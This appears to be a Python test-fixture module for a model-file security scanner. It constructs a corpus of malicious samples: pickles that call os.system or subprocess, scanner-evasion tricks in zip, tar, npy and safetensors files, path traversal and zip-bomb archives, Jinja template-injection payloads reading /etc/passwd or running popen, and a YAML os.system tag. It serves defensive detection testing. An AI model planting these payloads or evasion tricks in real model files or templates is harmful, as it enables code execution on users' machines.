"""Files that would run code, or hide that they do: each a kind of its own, made by our code.

The ideas are those of published bypasses of scanners, told again in our own bytes.
"""

import bz2
import gzip
import lzma
import pickle
import struct

from tests.scanners.assembling import (
    CANARY,
    COMMAND,
    EMPTY,
    FALSE,
    NONE,
    call,
    checkpoint,
    first_tar,
    linked,
    long,
    many,
    name,
    number,
    numpy,
    of_2017,
    packed,
    raw,
    row,
    safetensors,
    short,
    stacked,
    storage,
    table,
    tarred,
    tensor,
    text,
    whole,
    zipped,
)  # fmt: skip

RUN = call(name("os", "system"), text(COMMAND))
RUNS = whole(RUN)
LOCAL, CENTRAL = b"PK\x03\x04", b"PK\x01\x02"


class _Runs:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return os.system, (COMMAND,)


def _of(protocol: int) -> bytes:
    return pickle.dumps({"weights": [1, 2], "x": _Runs()}, protocol)


def _other_name(archive: bytes) -> bytes:
    """The directory calls the pickle something harmless."""
    at = archive.rindex(b"model/data.pkl")
    return archive[:at] + b"model/data.txt" + archive[at + 14 :]


def _field(archive: bytes, mark: bytes, offset: int, value: bytes) -> bytes:
    at = archive.index(mark) + offset
    return archive[:at] + value + archive[at + len(value) :]


def _memo_swap() -> bytes:
    """A harmless name is kept, then the place in the memo gets another one."""
    kept = name("torch", "LongStorage") + b"q\x050" + name("os", "system") + b"q\x050"
    return whole(kept + b"h\x05" + many(text(COMMAND)) + b"R")


def _template(words: str) -> bytes:
    return words.encode()


GOOD_TENSOR = tensor("0", (2,))
NUMBERS = {"0": bytes(8)}
LEGACY = of_2017(table(w=tensor("0", (2,), legacy=True)), {"0": (2, bytes(8))})
SWAPPED = many(text("storage"), name("os", "system"), text("0"), text("cpu"), number(2)) + b"Q"

PICKLES: dict[str, bytes] = {
    **{f"protocol-{n}.pkl": _of(n) for n in range(6)},
    "text-pickle.json": f"cos\nsystem\n(S'{COMMAND}'\ntR.".encode(),
    "inst.pkl": f"(S'{COMMAND}'\nios\nsystem\n.".encode(),
    "obj.pkl": whole(b"(" + name("os", "system") + text(COMMAND) + b"o"),
    "newobj.pkl": whole(name("subprocess", "Popen") + many(text(COMMAND)) + b"\x81"),
    "newobj-ex.pkl": whole(stacked("subprocess", "Popen") + many(text("x")) + b"}\x92", 4),
    "stack-global.pkl": whole(call(stacked("posix", "system"), short(COMMAND)), 4),
    "import-only.pkl": whole(name("antigravity", "anything")),
    "memo-swap.bin": _memo_swap(),
    "memoized.pkl": whole(
        short("os") + b"\x940" + short("system") + b"\x940h\x00h\x01\x93"
        + many(short("x")) + b"R", 4,
    ),
    "dup.pkl": whole(name("os", "system") + b"2" + many(text(COMMAND)) + b"R"),
    "resolve-name.pkl": whole(
        call(call(name("pkgutil", "resolve_name"), text("os:system")), text(COMMAND))
    ),
    "nested-getattr.pkl": whole(
        call(
            call(name("builtins", "getattr"),
                 call(name("builtins", "__import__"), text("os")), text("system")),
            text(COMMAND),
        )
    ),
    "operator.pkl": whole(
        call(call(name("operator", "attrgetter"), text("system")),
             call(name("importlib", "import_module"), text("os")))
    ),
    "methodcaller.pkl": whole(call(name("operator", "methodcaller"), text("system"), text("x"))),
    "partial.pkl": whole(call(name("functools", "partial"), name("os", "system"), text("x"))),
    "map.pkl": whole(call(name("builtins", "map"), name("os", "system"), row(text(COMMAND)))),
    "eval.pkl": whole(call(name("__builtin__", "eval"), text("1+1"))),
    "exec.pkl": whole(call(name("builtins", "exec"), text("import os"))),
    "compile.pkl": whole(call(name("code", "InteractiveInterpreter"))),
    "runpy.pkl": whole(call(name("runpy", "_run_code"), text("1"), b"}")),
    "timeit.pkl": whole(call(name("timeit", "timeit"), text("import os"))),
    "pdb.pkl": whole(call(name("pdb", "run"), text("import os"))),
    "profile.pkl": whole(call(name("cProfile", "run"), text("import os"))),
    "doctest.pkl": whole(call(name("doctest", "debug_script"), text("import os"))),
    "asyncio.pkl": whole(
        call(name("asyncio.unix_events", "_UnixSubprocessTransport._start"), b"}", text("x"))
    ),
    "numpy-exec.pkl": whole(
        call(name("numpy.testing._private.utils", "runstring"), text("1"), b"}")
    ),
    "numpy-f2py.pkl": whole(call(name("numpy.f2py.crackfortran", "getlincoef"), text("1"), b"}")),
    "torch-load.pkl": whole(call(name("torch", "load"), text("https://example.org/x"))),
    "torch-bytes.pkl": whole(call(name("torch.storage", "_load_from_bytes"), raw(RUNS))),
    "torch-workers.pkl": whole(
        call(name("torch.utils.bottleneck.__main__", "run_autograd_prof"), text("1"), b"}")
    ),
    "nested-pickle.pkl": whole(call(name("_pickle", "loads"), raw(RUNS))),
    "joblib.pkl": whole(call(name("joblib", "load"), text("other.pkl"))),
    "ctypes.pkl": whole(call(name("ctypes", "CDLL"), text("libc.so.6"))),
    "webbrowser.pkl": whole(call(name("webbrowser", "open"), text("https://example.org"))),
    "urlopen.pkl": whole(call(name("urllib.request", "urlopen"), text("https://example.org"))),
    "socket.pkl": whole(call(name("socket", "create_connection"), many(text("a"), number(1)))),
    "write-file.pkl": whole(call(name("builtins", "open"), text(CANARY), text("w"))),
    "rmtree.pkl": whole(call(name("shutil", "rmtree"), text("/nowhere"))),
    "build-class.pkl": whole(
        name("torch", "FloatStorage") + table(__reduce__=name("os", "system")) + b"b"
    ),
    "build-dict.pkl": whole(EMPTY + many(NONE, table(items=text("x"))) + b"b"),
    "set-item.pkl": whole(name("sys", "modules") + text("os") + NONE + b"s"),
    "append.pkl": whole(name("sys", "path") + text("/evil") + b"a"),
    "extension.pkl": whole(b"\x82\x05" + b")R"),
    "persistent.pkl": whole(text("anything") + b"Q"),
    "persistent-module.bin": whole(
        many(text("module"), name("evil", "Net"), text("evil.py"), text("import os")) + b"Q"
    ),
    "hooks.bin": whole(
        call(name("torch._utils", "_rebuild_tensor_v2"), storage("0", 2), number(0),
             many(number(2)), many(number(1)), FALSE, table(a=name("os", "system")))
    ),
    "encode.pkl": whole(call(name("_codecs", "encode"), text("x"), text("rot13"))),
    "decode.pkl": whole(call(name("_codecs", "decode"), raw(b"x"), text("zlib"))),
    "scalar-object.pkl": whole(
        call(name("numpy.core.multiarray", "scalar"),
             call(name("numpy", "dtype"), text("O8"), FALSE, FALSE), raw(RUNS))
    ),
    "broken-after-call.pkl": b"\x80\x02" + RUN + b"\xff\xff",
    "no-stop.pkl": b"\x80\x02" + RUN,
    "trailing.pkl": whole(b"}") + RUNS,
    "trailing-bytes.pkl": whole(b"}") + b"anything at all",
    "underflow.pkl": b"\x80\x02R.",
    "empty-body.pkl": b"\x80\x04.",
    "protocol-9.pkl": b"\x80\x05\x80\x09}.",
    "long-frame.pkl": b"\x80\x04\x95" + struct.pack("<Q", 2**60) + RUN + b".",
    "loop-memo.pkl": whole(b"]q\x00h\x00a" + RUN),
    "list-as-name.pkl": whole(row(text("os")) + short("system") + b"\x93", 4),
    "garbage.pkl": bytes(range(256)),
    "long-int.pkl": b"I" + b"9" * 5000 + b"\n" + RUN + b".",
    "dotted.pkl": whole(call(stacked("torch", "serialization.os.system"), short("x")), 4),
    "unicode-name.pkl": whole(call(stacked("os\u200b", "system"), short("x")), 4),
}  # fmt: skip

_GOOD = whole(table(weight=GOOD_TENSOR))
ARCHIVES: dict[str, bytes] = {
    "checkpoint.pt": checkpoint(RUNS),
    "checkpoint-packed.pt": checkpoint(RUNS, packed=True),
    "checkpoint-in-tensor.pt": checkpoint(
        whole(table(weight=GOOD_TENSOR, other=RUN)), NUMBERS
    ),
    "storage-swapped.pt": checkpoint(
        whole(table(w=SWAPPED)),
        NUMBERS,
    ),
    "second-pickle.pt": zipped([("model/data.pkl", _GOOD), ("model/extra.pkl", RUNS)]),
    "hidden-name.pt": zipped([("model/data.pkl", _GOOD), ("model/readme.txt", RUNS)]),
    "numbers-are-pickle.pt": checkpoint(_GOOD, {"0": RUNS}),
    "torchscript.pt": zipped(
        [("m/data.pkl", _GOOD), ("m/code/__torch__.py", b"x = 1"), ("m/constants.pkl", _GOOD)]
    ),
    "wrong-sum.pt": _field(checkpoint(_GOOD, NUMBERS), CENTRAL, 16, b"\1\2\3\4"),
    "two-names.pt": _other_name(checkpoint(RUNS)),
    "encrypted.pt": _field(checkpoint(_GOOD, NUMBERS), CENTRAL, 8, b"\x01\x00"),
    "unusual-method.pt": _field(checkpoint(RUNS), CENTRAL, 10, b"\x63\x00"),
    "same-name-twice.pt": zipped([("data.pkl", _GOOD), ("DATA.pkl", RUNS)]),
    "before-zip.pt": RUNS + checkpoint(_GOOD, NUMBERS),
    "after-zip.pt": checkpoint(_GOOD, NUMBERS) + RUNS,
    "cut.pt": checkpoint(_GOOD, NUMBERS)[:-30],
    "traversal.zip": zipped([("../../etc/x.txt", b"hello")]),
    "absolute.zip": zipped([("/etc/x.txt", b"hello")]),
    "bomb.zip": zipped([("zeros.txt", b"a" * 30_000_000)], packed=True),
    "nested.zip": zipped([("a.zip", zipped([("b.zip", zipped([("c.pkl", RUNS)]))]))]),
    "program-inside.zip": zipped([("run.so", b"\x7fELF" + bytes(60))]),
    "objects.npz": zipped([("a.npy", numpy("'|O'", RUNS))]),
    "keras-lambda.keras": zipped([("config.json", b'{"class_name": "Lambda"}')]),
    "legacy.bin": of_2017(RUN, {}),
    "legacy-more-bytes.bin": LEGACY + b"x",
    "first.tar": first_tar(RUNS),
    "pickle-in-tar.tar": tarred([("weights.dat", RUNS)]),
    "link.tar": linked("weights", "/etc/passwd"),
    "traversal.tar": tarred([("../x.txt", b"hello")]),
    "after-tar.tar": tarred([("x.txt", b"hello")]) + RUNS.ljust(512, b"\0"),
    "objects.npy": numpy("'|O'", RUNS),
    "objects-inside.npy": numpy("[('a', '<f4'), ('b', 'O')]", RUNS),
    "model.pkl.gz": gzip.compress(RUNS),
    "model.pkl.bz2": bz2.compress(RUNS),
    "model.pkl.xz": lzma.compress(RUNS),
    "model.joblib": packed(RUNS),
    "second-stream.pkl.gz": gzip.compress(whole(b"}")) + gzip.compress(RUNS),
    "second-stream.pkl.xz": lzma.compress(whole(b"}")) + lzma.compress(RUNS),
    "comma.npy": numpy("'f4,O'", RUNS),
    "padded.safetensors": safetensors(a=(9,)) + RUNS,
    "long-line.txt": b"V" + b"a" * (9 * 2**20) + b"\n0" + RUN + b".",
    "many-steps.txt": b"N0" * 60_000 + RUN + b".",
    "target.nemo": tarred([("model_config.yaml", b"a:\n  _target_: os.system\n")]),
    "numbers-elsewhere.zip": zipped([("data/0", b"\x7fELF" + bytes(60))]),
    "data.pkl.7z": b"7z\xbc\xaf\x27\x1c" + bytes(40),
    "pickle.safetensors": RUNS,
    "polyglot.safetensors": b"V" + safetensors(a=(20,))[1:8] + safetensors(a=(20,))[8:],
    "zip-at-the-end.md": b"# Model\n" + checkpoint(RUNS),
}  # fmt: skip


def _polyglot() -> bytes:
    """A safetensors file of which the length begins with an opcode, and the rest is one line."""
    tail = b"\n0" + RUN + b"."
    size = 0x56  # the letter V: everything up to the end of the line is one text
    header = b'{"a":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}' % (len(tail), len(tail))
    return struct.pack("<Q", size) + header.ljust(size) + tail


ARCHIVES["polyglot.safetensors"] = _polyglot()

OTHERS: dict[str, bytes] = {
    "run.py": b"import os\n",
    "run.sh": b"#!/bin/sh\necho\n",
    "program": b"\x7fELF" + bytes(100),
    "weights.bin": b"MZ" + bytes(100),
    "compiled.pyc": b"\xa7\x0d\x0d\x0a" + bytes(100),
    "module.wasm": b"\0asm\1\0\0\0" + bytes(20),
    "lambda.h5": b"\x89HDF\r\n\x1a\n" + b'{"class_name": "Lambda"}',
    "tag.yaml": b"a: !!python/object/apply:os.system [id]\n",
    "target.yaml": b"model:\n  _target_: subprocess.run\n",
    "turn\x07.txt": b"hello",
    "config.json": b'{"auto_map": {"AutoModel": "modeling.Evil"}}',
    "tokenizer_config.json": b'{"chat_template": "{{ x.__class__ }}"}',
    "subclasses.jinja": _template("{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    "attr.jinja": _template("{{ ''|attr('_' ~ '_class_' ~ '_') }}"),
    "hidden.jinja": _template("{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}"),
    "joined.jinja": _template("{{ ''[['_','_class_','_']|join] }}"),
    "lipsum.jinja": _template("{{ lipsum.__globals__['os'].popen('id') }}"),
    "self.jinja": _template("{{ self._TemplateReference__context }}"),
    "format.jinja": _template("{{ '{0.__class__}'.format(messages) }}"),
    "include.jinja": _template("{% include '/etc/passwd' %}"),
    "endless.jinja": _template("{% for i in range(99999999) %}{% endfor %}"),
    "broken.safetensors": safetensors(a=(4,))[:-3],
    "broken.gguf": b"GGUF" + struct.pack("<IQQ", 3, 2**62, 1),
    "unknown.bin": b"\x01\x02\x03\x04" * 30,
    "\u202egpj.elif": b"hello",
    "weights\u200b.txt": b"hello",
    "m\u043edel.txt": b"hello",
    "con.txt": b"hello",
    "model.txt.": b"hello",
    "negative.pkl": whole(b"}" + long(-1) + b"0").replace(b"}", b"(l", 1) + b"\x00",
}  # fmt: skip

BAD = {**PICKLES, **ARCHIVES, **OTHERS}
